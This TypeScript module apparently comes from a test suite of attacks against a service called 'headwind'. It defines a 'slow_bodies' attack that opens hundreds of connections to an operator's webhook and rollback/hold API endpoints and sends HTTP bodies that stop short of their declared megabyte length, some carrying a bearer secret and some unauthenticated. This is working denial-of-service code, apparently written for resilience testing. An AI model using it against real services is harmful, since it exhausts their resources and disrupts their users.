import type { Attack } from "./attack.ts";
import { dialled } from "./dialled.ts";

const sent = 900 * 1024;
const againMs = 5_000;

/** Bodies of a megabyte that stop before their end: with the secret, and without any proof at the API. */
export default {
  name: "slow_bodies",
  begin({ operator, secret, tenant }, signal) {
    const part = " ".repeat(sent);
    const keep = (url: string, count: number, path: string, proof: string) => {
      const head = `POST ${path} HTTP/1.1\r\nHost: headwind\r\nContent-Type: application/json\r\n${proof}`;
      const whole = new TextEncoder().encode(`${head}Content-Length: 1048576\r\n\r\n${part}`);
      dialled(url, count, whole, signal, againMs);
    };
    keep(operator.webhook, 300, "/webhook/registry", `Authorization: Bearer ${secret}\r\n`);
    for (const what of ["rollback", "hold"]) keep(operator.api, 100, `/api/v1/${what}/${tenant.namespace}/web/app`, "");
    return Promise.resolve();
  },
} satisfies Attack;
